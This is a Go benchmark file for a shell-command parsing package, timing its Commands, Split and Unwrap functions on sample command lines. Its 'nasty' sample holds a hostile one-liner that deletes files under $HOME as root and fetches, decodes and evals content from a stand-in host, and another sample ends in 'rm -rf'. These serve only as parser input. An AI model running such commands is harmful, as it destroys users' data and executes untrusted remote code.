package syntax

import (
	"strings"
	"testing"
)

var benchLines = map[string]string{
	"typical": `cd /repo && go test ./... 2>&1 | tail -n 20`,
	"short":   `ls -la`,
	"nasty": `sudo -u root env A=1 bash -c "rm -rf \"$HOME\"/x; $(curl -s https://x.example | base64 -d)" | ` +
		`while read l; do eval "$l" 2>/dev/null; done <<'EOF'` + "\n" + `echo 'a b' $'\x72\x6d' ${x:-$(id)} <(ls) ` + "`date`\nEOF\n" +
		`for d in /*; do [[ -d $d ]] && find "$d" -exec sh -c 'echo {}' \; ; done; case $1 in a|b) x;; esac`,
	"script": strings.Repeat("if [ -f \"$f\" ]; then\n  grep -q pattern \"$f\" && echo \"$f\" >> out.txt\nfi\n", 50),
}

func BenchmarkCommands(b *testing.B) {
	for _, name := range []string{"short", "typical", "nasty", "script"} {
		line := benchLines[name]
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(line)))
			for b.Loop() {
				Commands(line, Options{})
			}
		})
	}
}

func BenchmarkSplit(b *testing.B) {
	for _, name := range []string{"typical", "nasty"} {
		line := benchLines[name]
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Split(line)
			}
		})
	}
}

func BenchmarkUnwrap(b *testing.B) {
	words := strings.Fields("sudo -u root env FOO=1 nice -n 10 timeout 5m xargs -0 rm -rf")
	b.ReportAllocs()
	for b.Loop() {
		Unwrap(words)
	}
}
